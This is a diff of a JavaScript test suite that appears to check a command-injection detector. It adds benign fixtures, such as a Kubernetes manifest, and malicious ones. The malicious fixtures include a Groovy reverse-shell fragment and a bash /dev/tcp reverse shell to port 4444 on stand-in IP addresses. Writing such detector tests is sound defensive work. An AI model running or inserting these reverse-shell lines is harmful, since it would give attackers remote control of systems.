@@ -465,6 +465,10 @@ describe('command injection pack', () => {
     ],
     ['a Makefile', 'VERSION ?= $(shell git describe --tags 2>/dev/null || echo dev)\n\nbuild:\n\tgo build -o bin/app ./cmd/app\nclean:\n\trm -rf bin/'],
     [
+      'a Kubernetes manifest that starts a shell',
+      'apiVersion: v1\nkind: Pod\nspec:\n  containers:\n    - name: job\n      command: ["/bin/sh", "-c", "echo ready"]',
+    ],
+    [
       'a build script',
       '#!/usr/bin/env bash\nset -euo pipefail\nTMP=$(mktemp -d)\ntrap \'rm -rf "$TMP"\' EXIT\ncurl -fsSL "https://get.helm.sh/helm-v3.14.0-linux-amd64.tar.gz" | tar -xz -C "$TMP"',
     ],
@@ -473,6 +477,10 @@ describe('command injection pack', () => {
   });
 
   it.each([
+    [
+      'a reverse shell written in Groovy',
+      'String host="203.0.113.45";\nint port=4444;\nString cmd="/bin/bash";\nProcess p=new ProcessBuilder(cmd).start();Socket s=new Socket(host,port);',
+    ],
     ['a reverse shell in a script file', '#!/bin/sh\necho starting job\nbash -i >& /dev/tcp/203.0.113.9/4444 0>&1\necho done'],
     [
       'a download piped into a shell inside a YAML field',
